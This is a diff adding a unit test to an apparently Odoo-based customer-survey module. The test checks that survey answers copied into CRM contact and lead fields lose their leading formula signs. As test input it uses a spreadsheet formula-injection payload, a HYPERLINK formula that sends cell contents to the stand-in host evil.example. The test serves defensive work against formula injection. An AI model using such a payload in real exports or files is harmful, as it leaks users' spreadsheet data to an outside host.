@@ -26,6 +26,25 @@ class TestAnswerTargets(CustomerSurveyCase):
         invitation._write_back()
         self.assertEqual(self.customer.function, "Giám đốc")
 
+    def test_formulas_stay_out_of_contacts_and_leads(self):
+        """Odoo's own export writes what begins with a sign as a formula: it does not begin with one."""
+        fields = self.env["ir.model.fields"]
+        attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+        city, function = fields._get("crm.lead", "city"), fields._get("res.partner", "function")
+        self._map("competitor", target_kind="partner", target_partner_field_id=function.id)
+        self._map("liked", target_kind="lead", target_lead_field_id=city.id)
+        self._map("disliked", target_kind="referral")
+        lead = self.env["crm.lead"].create({"name": "L", "partner_id": self.customer.id, "company_id": self.company.id})
+        lead.city = self.customer.function = False
+        invitation = self.invite()
+        self.answer(invitation, {"competitor": attack, "liked": "@SUM(1)", "disliked": "=Hoa 0912 345 678"})
+        invitation._write_back()
+        self.assertEqual(invitation.writeback_state, "done", invitation.writeback_error)
+        self.assertEqual(self.customer.function, attack[1:])
+        self.assertEqual(lead.city, "SUM(1)")
+        referred = self.env["crm.lead"].search([("referred_by_id", "=", self.customer.id)])
+        self.assertEqual((referred.contact_name, referred.name[:4]), ("Hoa", "Hoa,"))
+
     def test_lead_field_is_escaped(self):
         field = self.env["ir.model.fields"]._get("crm.lead", "description")
         lead = self.env["crm.lead"].create({"name": "L", "partner_id": self.customer.id, "company_id": self.company.id})
